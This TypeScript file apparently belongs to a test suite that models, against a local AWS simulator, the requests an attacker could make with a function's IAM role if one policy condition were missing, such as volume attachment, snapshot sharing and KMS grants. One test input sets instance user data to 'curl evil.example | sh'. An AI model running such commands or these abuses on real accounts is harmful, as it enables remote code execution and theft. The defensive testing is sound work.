// The AWS requests of an attacker with a function's role, if one condition of its policies were missing. Each attack has a name. The request is built
// from the statement, so that only that one condition stops it.

import { ACCOUNT_ID, REGION_NAME, type Region } from '../../../local/region.ts';
import { listOf } from '../../../local/services/iam/conditions.ts';
import { type Statement, statementsOf } from '../../../local/services/iam/policy.ts';
import type { ServicePrincipal } from '../../../local/simulator/service.ts';
import type { Condition } from './conditions.ts';
import { NAMES, type Named, RECORDS, THROUGH } from './names.ts';

type Tags = Readonly<Record<string, string>>;

export interface Request {
  readonly service: string;
  readonly operation: string;
  readonly input: object;
  readonly principal?: ServicePrincipal;
  readonly insecure?: true;
}

export interface Attack {
  /** "a stranger's volume is attached to a node" */
  readonly name: string;
  readonly action: string;
  /** Makes the needed resources in the region first. */
  readonly request: () => Promise<Request> | Request;
  /** AWS's errors after IAM has allowed the request, where it still cannot be carried out. */
  readonly ends?: readonly string[];
  /** Another power that the attacker needs in addition, and has in this attack. */
  readonly also?: Statement;
  /** Another control also stops this attack: here the policy of the topic's key allows every principal. */
  readonly opens?: 'key';
}

/** A stack in a region, and the resources of a fleet there. */
export interface Place {
  readonly region: Region;
  /** A fleet that asks for everything that any fleet asks for. */
  readonly fleet: string;
  /** The tags of its nodes and of their volumes. */
  readonly tags: Tags;
}

const EC2 = `arn:aws:ec2:${REGION_NAME}:${ACCOUNT_ID}`;
const OTHER_ACCOUNT = '999988887777';
const KEY_ID = '0a1b2c3d-0000-4000-8000-00000000beef';
const IMAGE = 'ami-0aaaabbbbccccdddd';
const STRANGE = { Component: 'payroll' };
/** The fleet with drills in `withEverything`. */
const DRILLED = {
  fleet: 'drilled',
  tags: { Component: 'nodes/drilled', 'chainmend:fleet': 'drilled' },
  group: 'sg-0d0000000000000d1',
};

/** The purpose of a condition key, by its kind; keys of tags have names of their own. */
type Flaw = 'resource-tag' | 'request-tag' | 'tag-keys' | 'no-tag-keys' | (string & {});

function flawOf({ operator, key, statement: { Effect } }: Condition): Flaw {
  // What a denial names lets through; who carries nothing of it is stopped.
  if (Effect === 'Deny' && operator === 'StringNotEquals') return 'denied to strangers';
  if (Effect === 'Deny' && operator === 'ForAnyValue:StringNotEquals') return `denied ${key}`;
  if (/^(aws|ec2|ssm|autoscaling|elasticloadbalancing):resourcetag\//i.test(key)) return 'resource-tag';
  if (/^aws:requesttag\//i.test(key)) return 'request-tag';
  if (key === 'aws:TagKeys') return operator === 'Null' ? 'no-tag-keys' : 'tag-keys';
  return operator === 'Null' ? `no ${key}` : key;
}

/** Tags that satisfy the statement's conditions of one kind; without `but`, where one is given. */
function fulfilling({ statement }: Condition, prefix: RegExp, but?: string): Record<string, string> {
  const tags: Record<string, string> = {};
  for (const [operator, keys] of Object.entries(statement.Condition ?? {}))
    for (const [key, values] of Object.entries(keys)) {
      const [, name] = prefix.exec(key) ?? [];
      if (name === undefined || key === but) continue;
      if (operator === 'StringEquals' || operator === 'StringEqualsIfExists') tags[name] = listOf(values)[0] ?? '';
      else if (operator === 'Null') tags[name] = 'x';
    }
  return tags;
}

const RESOURCE_TAG = /^(?:aws|ec2|ssm):resourcetag\/(.*)$/i;
const REQUEST_TAG = /^aws:requesttag\/(.*)$/i;

interface Scene extends Place {
  readonly condition: Condition;
  /** The tags of the attacked resource. */
  readonly has: Tags;
  /** The tags in the request; null for none. */
  readonly gives: Tags | null;
}

/** The name of an alarm that the statement lets through by its resources: its conditions alone can stop what is done with it. */
const alarmWithin = ({ condition: { statement } }: Scene): string =>
  (listOf(statement.Resource)[0]?.split(':').at(-1) ?? '').replace('*', String(++made));

const valuesOf = ({ statement }: Condition, key: string): string[] =>
  Object.values(statement.Condition ?? {}).flatMap((keys) => (keys[key] === undefined ? [] : listOf(keys[key])));

function sceneOf(place: Place, condition: Condition): Scene {
  const flaw = flawOf(condition);
  const { key } = condition;
  const has = fulfilling(condition, RESOURCE_TAG, flaw === 'resource-tag' ? key : undefined);
  const asked = fulfilling(condition, REQUEST_TAG, flaw === 'request-tag' ? key : undefined);
  const [allowed = 'chainmend:why'] = valuesOf(condition, 'aws:TagKeys').filter((one) => !one.includes('*'));
  const denied = condition.statement.Effect === 'Deny';
  const isPattern = condition.operator === 'ForAllValues:StringLike';
  const gives = {
    ...(flaw === 'request-tag' || denied ? {} : { [allowed]: asked[allowed] ?? 'x' }),
    ...asked,
    // A denial stops any other tag but those by which fleets know their volumes.
    ...(flaw === 'tag-keys' && (isPattern ? { [otherSelectorKey(condition)]: 'x' } : { Owner: 'me' })),
    ...(denied && { 'chainmend:pause': 'x' }),
    ...(flaw === 'request-tag' && { [key.slice(key.indexOf('/') + 1)]: 'payroll' }),
  };
  return { ...place, condition, has, gives: flaw === 'no-tag-keys' ? null : gives };
}

/** A key by which another fleet knows its volumes: the role may write it on those alone. */
function otherSelectorKey({ documents, statement }: Condition): string {
  const { 'aws:TagKeys': own = [] } = (statement.Condition?.['ForAllValues:StringLike'] ?? {}) as Record<
    string,
    unknown
  >;
  const all = documents
    .flatMap(statementsOf)
    .filter(({ Sid }) => Sid === 'NeverOtherTags')
    .flatMap(({ Condition = {} }) => listOf(Condition['ForAnyValue:StringNotEquals']?.['aws:TagKeys']));
  return all.find((key) => !key.startsWith('chainmend:') && !listOf(own).includes(key)) ?? 'none';
}

const listed = (tags: Tags): { Key: string; Value: string }[] =>
  Object.entries(tags).map(([Key, Value]) => ({ Key, Value }));

let made = 4096;
const person = ({ region }: Place, service: string, operation: string, input: object): Promise<unknown> =>
  region.call(service, operation, input);

const own = ({ fleet, tags }: Place): Tags => ({ ...tags, 'chainmend:fleet': fleet });

function instanceOf({ region }: Place, tags: Tags, state: 'running' | 'stopped' = 'running'): string {
  made++;
  return region.ec2.addInstance({ privateIp: `10.0.${made >> 8}.${made & 255}`, tags, state });
}

const volumeOf = ({ region }: Place, tags: Tags, instanceId?: string): string =>
  region.ec2.addVolume({
    sizeGiB: 10,
    tags,
    ...(instanceId !== undefined && { attachedTo: { instanceId, device: '/dev/sdf' } }),
  });

const snapshotOf = (place: Place, tags: Tags, ownerId: string = ACCOUNT_ID): string =>
  place.region.ec2.addSnapshot({ volumeId: volumeOf(place, {}), tags, ownerId });
/** Whose the attacked resource is: of the account that the statement names, or of another where that is the flaw. */
const ownerOf = ({ condition }: Scene): string =>
  condition.key === 'ec2:Owner' ? OTHER_ACCOUNT : (valuesOf(condition, 'ec2:Owner')[0] ?? ACCOUNT_ID);

/** A fleet's snapshot; a stranger's with the tags of a heal where the statement denies those. */
const heldOf = (scene: Scene): string =>
  snapshotOf(
    scene,
    scene.condition.statement.Effect === 'Deny'
      ? { ...STRANGE, 'chainmend:held-by': 'x', 'chainmend:locked-by': 'x' }
      : { ...own(scene), ...scene.has },
  );

async function templateOf(place: Place, tags: Tags, more: object): Promise<string> {
  const { LaunchTemplate } = (await person(place, 'ec2', 'CreateLaunchTemplate', {
    LaunchTemplateName: `template-${++made}`,
    LaunchTemplateData: { ImageId: IMAGE, InstanceType: 'm6i.large', ...more },
    TagSpecifications: [{ ResourceType: 'launch-template', Tags: listed({ ...tags, Name: 'x' }) }],
  })) as { readonly LaunchTemplate: { readonly LaunchTemplateId: string } };
  return LaunchTemplate.LaunchTemplateId;
}

const groupOf = ({ region }: Place, tags: Tags): string =>
  region.elb.addTargetGroup({ name: `group-${++made}`, port: 8332, tags });

/** The tags of a new resource: from the statement, or a fleet's. */
const specified = ({ fleet, gives }: Scene, ...kinds: readonly string[]) =>
  kinds.map((ResourceType) => ({
    ResourceType,
    Tags: listed(
      gives && Object.keys(gives).some((key) => key === 'chainmend:fleet') ? gives : { 'chainmend:fleet': fleet },
    ),
  }));

/** A launch as the suite makes it, with the attack's change. A drill's: with its tag, and with its group in the request. */
async function launch(scene: Scene, kind: string, more: object = {}): Promise<object> {
  const drill = scene.condition.owner.includes('AuditSnapshots');
  const asMember = drill ? { ...own(scene), ...DRILLED.tags } : own(scene);
  const about = (one: string): Tags => (kind === one ? scene.has : asMember);
  const groups = { SecurityGroupIds: [drill ? DRILLED.group : 'sg-0123456789abcdef0'] };
  // With a network interface in the request neither it nor the template may name security groups.
  const withInterface = 'NetworkInterfaces' in more;
  const given = drill ? { 'chainmend:drill': DRILLED.fleet } : { 'chainmend:fleet': scene.fleet };
  return {
    LaunchTemplate: {
      LaunchTemplateId: await templateOf(scene, about('launch-template'), withInterface || drill ? {} : groups),
    },
    MinCount: 1,
    MaxCount: 1,
    TagSpecifications: ['instance', 'volume'].map((ResourceType) => ({
      ResourceType,
      Tags: listed(kind === ResourceType && scene.gives ? scene.gives : given),
    })),
    ...(drill && !withInterface && groups),
    ...more,
  };
}

type Make = (scene: Scene, kind: string) => Promise<Request> | Request;

const ec2 = (operation: string, input: object): Request => ({ service: 'ec2', operation, input });

/** The request of each action, for one kind of resource of the statement. The rest of the request is certainly a fleet's. */
const MAKE: Readonly<Record<string, Make>> = {
  'ec2:AttachVolume': (scene, kind) =>
    ec2('AttachVolume', {
      VolumeId: volumeOf(scene, kind === 'volume' ? scene.has : own(scene)),
      InstanceId: instanceOf(scene, kind === 'instance' ? scene.has : own(scene)),
      Device: '/dev/sdg',
    }),
  'ec2:DetachVolume': (scene) => {
    const InstanceId = instanceOf(scene, scene.has);
    return ec2('DetachVolume', { VolumeId: volumeOf(scene, own(scene), InstanceId), InstanceId });
  },
  'ec2:DescribeInstanceAttribute': (scene) =>
    ec2('DescribeInstanceAttribute', { InstanceId: instanceOf(scene, scene.has), Attribute: 'userData' }),
  'ec2:StopInstances': (scene) => ec2('StopInstances', { InstanceIds: [instanceOf(scene, scene.has)] }),
  'ec2:StartInstances': (scene) => ec2('StartInstances', { InstanceIds: [instanceOf(scene, scene.has, 'stopped')] }),
  'ec2:TerminateInstances': (scene) => ec2('TerminateInstances', { InstanceIds: [instanceOf(scene, scene.has)] }),
  'ec2:AssociateAddress': (scene, kind) =>
    ec2('AssociateAddress', {
      AllocationId: scene.region.ec2.addAddress({ tags: kind === 'elastic-ip' ? scene.has : own(scene) }),
      InstanceId: instanceOf(scene, kind === 'instance' ? scene.has : own(scene)),
    }),
  'ec2:CreateVolume': (scene, kind) =>
    ec2('CreateVolume', {
      AvailabilityZone: `${REGION_NAME}a`,
      SnapshotId: snapshotOf(scene, kind === 'snapshot' ? scene.has : own(scene)),
      TagSpecifications: specified(scene, 'volume'),
    }),
  'ec2:CopyVolumes': (scene, kind) =>
    ec2('CopyVolumes', {
      // The statement for a new resource checks the tags of the request, the other one those of the source.
      SourceVolumeId: volumeOf(
        scene,
        kind === 'volume' && Object.keys(scene.gives ?? {}).includes('chainmend:fleet') ? own(scene) : scene.has,
      ),
      TagSpecifications: specified(scene, 'volume'),
    }),
  'ec2:CreateSnapshots': (scene, kind) => {
    const InstanceId = instanceOf(scene, kind === 'instance' ? scene.has : own(scene));
    volumeOf(scene, kind === 'volume' ? scene.has : own(scene), InstanceId);
    return ec2('CreateSnapshots', {
      InstanceSpecification: { InstanceId, ExcludeBootVolume: true },
      TagSpecifications: specified(scene, 'snapshot'),
    });
  },
  'ec2:CreateSnapshot': (scene) => ec2('CreateSnapshot', { VolumeId: volumeOf(scene, scene.has) }),
  'ec2:DeleteSnapshot': (scene) => ec2('DeleteSnapshot', { SnapshotId: snapshotOf(scene, scene.has) }),
  'ec2:DescribeSnapshotAttribute': (scene) =>
    ec2('DescribeSnapshotAttribute', { SnapshotId: snapshotOf(scene, scene.has), Attribute: 'createVolumePermission' }),
  'ec2:ModifySnapshotAttribute': (scene) =>
    ec2('ModifySnapshotAttribute', {
      SnapshotId: snapshotOf(scene, scene.has),
      CreateVolumePermission: { Add: [{ UserId: OTHER_ACCOUNT }] },
    }),
  'ec2:DeleteVolume': (scene) => ec2('DeleteVolume', { VolumeId: volumeOf(scene, scene.has) }),
  'ec2:ModifyVolume': (scene) => ec2('ModifyVolume', { VolumeId: volumeOf(scene, scene.has), Size: 16_000 }),
  'ec2:LockSnapshot': (scene) =>
    ec2('LockSnapshot', {
      SnapshotId: heldOf(scene),
      LockMode: 'governance',
      LockDuration: scene.condition.key === 'ec2:SnapshotLockDuration' ? 36_500 : 1,
    }),
  'ec2:UnlockSnapshot': async (scene) => {
    const SnapshotId = heldOf(scene);
    await person(scene, 'ec2', 'LockSnapshot', { SnapshotId, LockMode: 'governance', LockDuration: 30 });
    return ec2('UnlockSnapshot', { SnapshotId });
  },
  'ec2:CreateTags': (scene, kind) =>
    ec2('CreateTags', { Resources: [taggedOf(scene, kind)], Tags: listed(scene.gives ?? {}) }),
  'ec2:DeleteTags': (scene, kind) =>
    ec2('DeleteTags', {
      Resources: [taggedOf(scene, kind)],
      ...(scene.gives && { Tags: Object.keys(scene.gives).map((Key) => ({ Key })) }),
    }),
  'ec2:ModifyInstanceAttribute': (scene) => {
    const InstanceId = instanceOf(scene, scene.has, 'stopped');
    volumeOf(scene, own(scene), InstanceId);
    const flaw = flawOf(scene.condition);
    const types = valuesOf(scene.condition, 'ec2:Attribute/InstanceType');
    if (types.length > 0) {
      const Value = flaw === 'ec2:Attribute/InstanceType' ? 'p5.48xlarge' : types[0];
      return ec2('ModifyInstanceAttribute', { InstanceId, InstanceType: { Value } });
    }
    const change =
      flaw === 'ec2:Attribute'
        ? { UserData: { Value: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') } }
        : flaw === 'no ec2:Attribute'
          ? {}
          : { BlockDeviceMappings: [{ DeviceName: '/dev/sdf', Ebs: { DeleteOnTermination: true } }] };
    return ec2('ModifyInstanceAttribute', { InstanceId, ...change });
  },
  'ec2:RunInstances': async (scene, kind) => {
    if (scene.condition.key === 'ec2:NetworkInterfaceID') {
      const theirs = interfaceOf(scene);
      return ec2(
        'RunInstances',
        await launch(scene, kind, { NetworkInterfaces: [{ DeviceIndex: 0, NetworkInterfaceId: theirs }] }),
      );
    }
    const overridden: Readonly<Record<string, () => object>> = {
      image: () => ({ ImageId: 'ami-0bad0bad0bad0bad0' }),
      snapshot: () => ({
        BlockDeviceMappings: [{ DeviceName: '/dev/sdf', Ebs: { SnapshotId: snapshotOf(scene, STRANGE) } }],
      }),
      'key-pair': () => ({ KeyName: 'mine' }),
      'security-group': () => ({ SecurityGroupIds: ['sg-0bad0bad0bad0bad0'] }),
    };
    return ec2('RunInstances', await launch(scene, kind, overridden[kind]?.() ?? {}));
  },
  'ec2:CreateNetworkInterface': () =>
    ec2('CreateNetworkInterface', { SubnetId: 'subnet-0123456789abcdef0', Groups: ['sg-0123456789abcdef0'] }),
  'ec2:DeleteNetworkInterface': (scene) => ec2('DeleteNetworkInterface', { NetworkInterfaceId: interfaceOf(scene) }),
  'ec2:AssignPrivateIpAddresses': (scene) =>
    addresses('AssignPrivateIpAddresses', scene, { SecondaryPrivateIpAddressCount: 1 }),
  'ec2:UnassignPrivateIpAddresses': (scene) =>
    addresses('UnassignPrivateIpAddresses', scene, { PrivateIpAddresses: ['10.0.0.9'] }),
  'ec2:DescribeNetworkInterfaces': () => ec2('DescribeNetworkInterfaces', {}),
  'ec2:DescribeSubnets': () => ec2('DescribeSubnets', {}),
  'ssm:SendCommand': (scene) => ({
    service: 'ssm',
    operation: 'SendCommand',
    input: { DocumentName: documentOf(scene), InstanceIds: [instanceOf(scene, scene.has)] },
  }),
  'elasticloadbalancing:RegisterTargets': (scene) => targets('RegisterTargets', scene),
  'elasticloadbalancing:DeregisterTargets': (scene) => targets('DeregisterTargets', scene),
  'autoscaling:EnterStandby': (scene) => standby('EnterStandby', scene),
  'autoscaling:ExitStandby': (scene) => standby('ExitStandby', scene),
  'autoscaling:SetDesiredCapacity': (scene) => standby('SetDesiredCapacity', scene),
  'dynamodb:GetItem': () => item('GetItem', { Key: { pk: { S: 'PAYROLL#1' }, sk: { S: 'x' } } }),
  'dynamodb:PutItem': () => item('PutItem', { Item: { pk: { S: 'PAYROLL#1' }, sk: { S: 'x' } } }),
  'dynamodb:Query': () =>
    item('Query', {
      KeyConditionExpression: 'pk = :p',
      ExpressionAttributeValues: { ':p': { S: 'PAYROLL#1' } },
    }),
  'cloudwatch:PutMetricData': () => ({
    service: 'monitoring',
    operation: 'PutMetricData',
    input: { Namespace: 'payroll', MetricData: [{ MetricName: 'Salaries', Value: 0 }] },
  }),
  'cloudwatch:PutMetricAlarm': (scene) => ({
    service: 'monitoring',
    operation: 'PutMetricAlarm',
    input: {
      ...ALARM,
      AlarmName: alarmWithin(scene),
      AlarmActions: [`arn:aws:sns:${REGION_NAME}:${ACCOUNT_ID}:payroll`],
    },
  }),
  'cloudwatch:TagResource': async (scene) => {
    const AlarmName = alarmWithin(scene);
    await person(scene, 'monitoring', 'PutMetricAlarm', { ...ALARM, AlarmName });
    return {
      service: 'monitoring',
      operation: 'TagResource',
      input: {
        ResourceARN: `arn:aws:cloudwatch:${REGION_NAME}:${ACCOUNT_ID}:alarm:${AlarmName}`,
        Tags: listed(scene.gives ?? {}),
      },
    };
  },
  'cloudwatch:DeleteAlarms': async (scene) => {
    const AlarmName = `chainmend-${++made}`;
    await person(scene, 'monitoring', 'PutMetricAlarm', { ...ALARM, AlarmName, Tags: listed(scene.has) });
    return { service: 'monitoring', operation: 'DeleteAlarms', input: { AlarmNames: [AlarmName] } };
  },
  'route53:ChangeResourceRecordSets': async (scene) => {
    const { key } = scene.condition;
    const [pattern = ''] = valuesOf(scene.condition, `${RECORDS}NormalizedRecordNames`).filter((one) =>
      one.startsWith('*.'),
    );
    const zone = `${++made}.example`;
    const { HostedZone } = (await person(scene, 'route53', 'CreateHostedZone', {
      Name: zone,
      CallerReference: zone,
      VPC: { VPCId: 'vpc-0123456789abcdef0', VPCRegion: REGION_NAME },
      HostedZoneConfig: { PrivateZone: true },
    })) as { readonly HostedZone: { readonly Id: string } };
    const of = (what: string): boolean => key === `${RECORDS}${what}`;
    const Type = of('RecordTypes') ? 'CNAME' : 'A';
    const change = {
      Action: of('Actions') ? 'UPSERT' : 'CREATE',
      ResourceRecordSet: {
        Name: of('NormalizedRecordNames') ? `payroll.${zone}` : pattern.replace('*', 'node1'),
        Type,
        TTL: 60,
        ResourceRecords: [{ Value: Type === 'CNAME' ? 'evil.example' : '10.6.6.6' }],
      },
    };
    return {
      service: 'route53',
      operation: 'ChangeResourceRecordSets',
      input: { HostedZoneId: HostedZone.Id, ChangeBatch: { Changes: [change] } },
    };
  },
  'iam:PassRole': (scene) => ({
    service: 'dlm',
    operation: 'CreateLifecyclePolicy',
    input: {
      ExecutionRoleArn: listOf(scene.condition.statement.Resource)[0],
      Description: 'mine',
      State: 'DISABLED',
      PolicyDetails: {
        PolicyType: 'EBS_SNAPSHOT_MANAGEMENT',
        ResourceTypes: ['VOLUME'],
        TargetTags: listed(STRANGE),
        Schedules: [{ Name: 'x', CreateRule: { Interval: 24, IntervalUnit: 'HOURS' }, RetainRule: { Count: 1 } }],
      },
    },
  }),
  ...Object.fromEntries(
    ['CreateGrant', 'Decrypt', 'Encrypt', 'GenerateDataKeyWithoutPlaintext'].map((operation): [string, Make] => [
      `kms:${operation}`,
      (scene) => ({ service: 'kms', operation, input: { ...KMS_INPUT[operation], KeyId: keyOf(scene) } }),
    ]),
  ),
  'kms:ReEncryptFrom': reEncrypt,
  'kms:ReEncryptTo': reEncrypt,
  'kms:DescribeKey': (scene) => ({ service: 'kms', operation: 'DescribeKey', input: { KeyId: keyOf(scene) } }),
};

/** A network interface of a stranger's instance. */
const interfaceOf = (scene: Scene): string | undefined =>
  scene.region.ec2.instance(instanceOf(scene, STRANGE)).networkInterface?.networkInterfaceId;

const addresses = (operation: string, scene: Scene, more: object): Request =>
  ec2(operation, { NetworkInterfaceId: interfaceOf(scene), ...more });

function reEncrypt(scene: Scene): Request {
  const KeyId = keyOf(scene);
  const input = { CiphertextBlob: new Uint8Array([1]), SourceKeyId: KeyId, DestinationKeyId: KeyId };
  return { service: 'kms', operation: 'ReEncrypt', input };
}

const ALARM = {
  Namespace: 'chainmend',
  MetricName: 'Health',
  Statistic: 'Maximum',
  Period: 60,
  EvaluationPeriods: 1,
  Threshold: 4,
  ComparisonOperator: 'GreaterThanOrEqualToThreshold',
};
const KMS_INPUT: Readonly<Record<string, object>> = {
  CreateGrant: { GranteePrincipal: `arn:aws:iam::${OTHER_ACCOUNT}:root`, Operations: ['Decrypt'] },
  Decrypt: { CiphertextBlob: new Uint8Array([1]) },
  Encrypt: { Plaintext: new Uint8Array([1]) },
};

const keyOf = ({ condition }: Scene): string => {
  const [resource = ''] = listOf(condition.statement.Resource);
  return resource.endsWith('*') ? KEY_ID : resource;
};

function taggedOf(scene: Scene, kind: string): string {
  const tags = scene.condition.statement.Effect === 'Deny' ? own(scene) : scene.has;
  if (kind === 'snapshot') return snapshotOf(scene, tags, ownerOf(scene));
  return kind === 'instance' ? instanceOf(scene, tags) : volumeOf(scene, tags);
}

const item = (operation: string, input: object): Request => ({
  service: 'dynamodb',
  operation,
  input: { TableName: 'chainmend', ...input },
});

function targets(operation: string, scene: Scene): Request {
  const TargetGroupArn = groupOf(scene, scene.has);
  const Id = instanceOf(scene, own(scene));
  if (operation === 'DeregisterTargets') scene.region.elb.addTargets(TargetGroupArn, [Id]);
  return { service: 'elasticloadbalancing', operation, input: { TargetGroupArn, Targets: [{ Id, Port: 8332 }] } };
}

async function standby(operation: string, scene: Scene): Promise<Request> {
  const instanceId = instanceOf(scene, own(scene));
  const name = `group-${++made}`;
  scene.region.autoscaling.addGroup({
    name,
    instanceIds: [instanceId],
    maxSize: 2,
    tags: Object.entries(scene.has).map(([key, value]) => ({ key, value, propagate: false })),
  });
  const input = { AutoScalingGroupName: name, InstanceIds: [instanceId] };
  const enter = { ...input, ShouldDecrementDesiredCapacity: true };
  if (operation === 'ExitStandby') {
    await person(scene, 'autoscaling', 'EnterStandby', enter);
    await scene.region.clock.sleep(5 * 60_000);
  }
  const more = { AutoScalingGroupName: name, DesiredCapacity: 2 };
  const inputs: Readonly<Record<string, object>> = { EnterStandby: enter, SetDesiredCapacity: more };
  return { service: 'autoscaling', operation, input: inputs[operation] ?? input };
}

/** A document that the role may send: the command itself is allowed. */
function documentOf({ region, condition: { documents } }: Scene): string {
  const arns = documents.flatMap(({ Statement }) =>
    [Statement as Statement | readonly Statement[]]
      .flat()
      .flatMap(({ Resource }) => (Resource === undefined ? [] : listOf(Resource))),
  );
  const prefixes = arns.flatMap((arn) => /:document\/(.*)\*$/.exec(arn)?.[1] ?? []);
  return region.ssm.documents().find((name) => prefixes.some((prefix) => name.startsWith(prefix))) ?? 'none';
}

/** The attacks that this one condition stops: one for each action and kind of resource that would be open without it. */
export function attacksOn(place: Place, condition: Condition): readonly Attack[] {
  return condition.of === 'role' ? ofRole(place, condition) : ofResource(place, condition);
}

function ofRole(place: Place, condition: Condition): readonly Attack[] {
  const { Action, Resource } = condition.statement;
  const scene = sceneOf(place, condition);
  const kinds = [...new Set(listOf(Resource).map((arn) => kindOf(arn)))];
  return listOf(Action).flatMap((action) => {
    const named = NAMES[flawOf(condition)]?.[action];
    const make = MAKE[action];
    if (named === undefined || make === undefined) return [];
    const attack = ({ name, ...rest }: Named, kind: string): Attack => ({
      ...{ name, action, ...rest },
      request: () => make(scene, kind),
    });
    if (isNamed(named)) return [attack(named, kinds[0] ?? '')];
    // "*/*" is every kind.
    const about = kinds.includes('*') ? Object.keys(named) : kinds;
    return about.flatMap((kind) => (named[kind] ? [attack(named[kind], kind)] : []));
  });
}

const isNamed = (value: Named | Readonly<Record<string, Named>>): value is Named => typeof value.name === 'string';

/** "arn:…:volume/*" is about volumes, "arn:…:targetgroup/*" about target groups. */
const kindOf = (arn: string): string =>
  arn.startsWith(EC2) || arn.startsWith('arn:aws:ec2:') ? (arn.split(':')[5]?.split('/')[0] ?? '') : '';

const AS: Readonly<Record<string, Pick<Request, 'service' | 'operation'>>> = {
  'sns:Publish': { service: 'sns', operation: 'Publish' },
  'sqs:*': { service: 'sqs', operation: 'SendMessage' },
  'sqs:SendMessage': { service: 'sqs', operation: 'SendMessage' },
  'sts:AssumeRole': { service: 'sts', operation: 'AssumeRole' },
  'lambda:InvokeFunction': { service: 'lambda', operation: 'Invoke' },
  'kms:Decrypt': { service: 'kms', operation: 'Decrypt' },
  'kms:GenerateDataKey': { service: 'kms', operation: 'GenerateDataKey' },
};

const OF_RESOURCE: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'aws:SecureTransport': {
    'sns:Publish': 'a page is sent in clear text, where others read it',
    'sqs:*': 'what failed is sent in clear text, where others read it',
  },
  'aws:SourceArn': {
    'sns:Publish': 'an alarm of somebody else’s pages the people on duty',
    'kms:Decrypt': 'an alarm of somebody else’s has our key decrypt for it',
    'kms:GenerateDataKey': 'an alarm of somebody else’s has our key encrypt for it',
    'sqs:SendMessage': 'a rule of somebody else’s fills the queue of what was not delivered',
    'sts:AssumeRole': 'a lifecycle policy of another account uses our role',
    'lambda:InvokeFunction': 'a rule of somebody else’s starts the function',
  },
  'aws:SourceAccount': {
    'sts:AssumeRole': 'a schedule of another account uses our role',
    'lambda:InvokeFunction': 'an alarm of another account starts the function in the name of one of ours',
  },
};

/** A person or a service sends a request on the resource itself. */
function ofResource({ region }: Place, condition: Condition): readonly Attack[] {
  const { statement, key, owner } = condition;
  const flaw = key.replace(/^AWS:/, 'aws:');
  return listOf(statement.Action).flatMap((action) => {
    const name = OF_RESOURCE[flaw]?.[action];
    const as = AS[action];
    if (name === undefined || as === undefined) return [];
    const request: Request = {
      ...as,
      input: inputFor(region, action, owner),
      ...(flaw === 'aws:SecureTransport'
        ? { insecure: true as const }
        : { principal: { ...strangerOf(condition, flaw) } }),
    };
    return [
      {
        name,
        action,
        request: () => request,
        ...(/^(sts|kms):/.test(action) && { ends: THROUGH }),
        ...(action === 'sns:Publish' && { opens: 'key' as const }),
      },
    ];
  });
}

/** The same service, on behalf of a resource that the condition does not name. It is in this account, unless the condition checks the account. */
function strangerOf({ statement }: Condition, flaw: string): ServicePrincipal {
  const { Principal, Condition } = statement;
  const [service = ''] = typeof Principal === 'object' ? listOf(Principal['Service']) : [];
  const account = flaw === 'aws:SourceAccount' || service.startsWith('dlm') ? OTHER_ACCOUNT : ACCOUNT_ID;
  const name = service.split('.')[0] ?? '';
  const [named] = flaw === 'aws:SourceAccount' ? listOf(Condition?.['ArnLike']?.['AWS:SourceArn'] ?? []) : [];
  const sourceArn = named?.replaceAll('*', 'x') ?? `arn:aws:${name}:${REGION_NAME}:${account}:payroll/payroll`;
  return { service, sourceArn, sourceAccount: account };
}

function inputFor(region: Region, action: string, arn: string): object {
  if (action === 'sns:Publish') return { TopicArn: arn, Message: 'wake up' };
  if (action.startsWith('sqs:')) {
    const name = arn.split(':').at(-1);
    return {
      QueueUrl: `https://sqs.${region.kernel.regionName}.amazonaws.com/${ACCOUNT_ID}/${name}`,
      MessageBody: 'x',
    };
  }
  if (action === 'sts:AssumeRole') return { RoleArn: arn, RoleSessionName: 'x' };
  if (action === 'lambda:InvokeFunction') return { FunctionName: arn, InvocationType: 'Event' };
  return {
    KeyId: arn,
    ...(action === 'kms:Decrypt' ? { CiphertextBlob: new Uint8Array([1]) } : { KeySpec: 'AES_256' }),
  };
}
